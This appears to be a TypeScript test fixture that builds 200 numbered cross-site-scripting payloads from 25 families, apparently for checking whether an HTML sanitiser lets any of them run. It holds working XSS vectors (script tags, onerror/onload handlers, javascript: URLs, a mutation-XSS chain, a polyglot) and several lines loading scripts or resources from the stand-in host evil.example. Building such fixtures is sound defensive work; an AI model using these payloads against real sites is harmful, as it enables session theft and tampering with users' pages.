/**
 * 200 known cross-site-scripting payloads (25 families x 8 variants), each
 * unique by its number N. A payload that ran would call window.__xss(N),
 * alert/confirm/prompt, or load something from evil.example.
 */
const FAMILIES: ((n: number) => string)[] = [
  (n) => `<script>window.__xss(${n})</script>`,
  (n) => `<img src=x onerror="window.__xss(${n})">`,
  (n) => `<svg onload=window.__xss(${n})>`,
  (n) => `<iframe srcdoc="<script>parent.__xss(${n})</script>"></iframe>`,
  (n) => `<a href="javascript:window.__xss(${n})" id="xss-link-${n}">click ${n}</a>`,
  (n) => `"><script>window.__xss(${n})</script>`,
  (n) => `'><img src=x onerror=alert(${n})>`,
  (n) => `<body onload=alert(${n})>`,
  (n) => `<details open ontoggle=window.__xss(${n})>`,
  (n) => `<img src="http://evil.example/${n}.png">`,
  (n) => `<script src="http://evil.example/${n}.js"></script>`,
  (n) => `<link rel=stylesheet href="http://evil.example/${n}.css">`,
  (n) => `<style>@import 'http://evil.example/${n}.css';</style>`,
  (n) => `<math><mtext><table><mglyph><style><img src=x onerror=alert(${n})>`,
  (n) => `<ScRiPt>confirm(${n})</sCrIpT>`,
  (n) => `&lt;script&gt;alert(${n})&lt;/script&gt;`,
  (n) => "${alert(" + n + ")}`${prompt(" + n + ")}`",
  (n) => `<input autofocus onfocus=window.__xss(${n})>`,
  (n) => `<video><source onerror="window.__xss(${n})"></video>`,
  (n) => `<object data="javascript:window.__xss(${n})"></object>`,
  (n) => `<meta http-equiv="refresh" content="0;url=http://evil.example/${n}">`,
  (n) => `<div style="background:url(http://evil.example/${n}.png)">x${n}</div>`,
  (n) => `<marquee onstart=window.__xss(${n})>m${n}</marquee>`,
  (n) =>
    `javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+window.__xss(${n})//'>`,
  (n) => `<embed src="http://evil.example/${n}.swf">`,
]

export const XSS_PAYLOADS: string[] = []
for (let variant = 0; variant < 8; variant++) {
  FAMILIES.forEach((family, i) => XSS_PAYLOADS.push(family(variant * 100 + i + 1)))
}
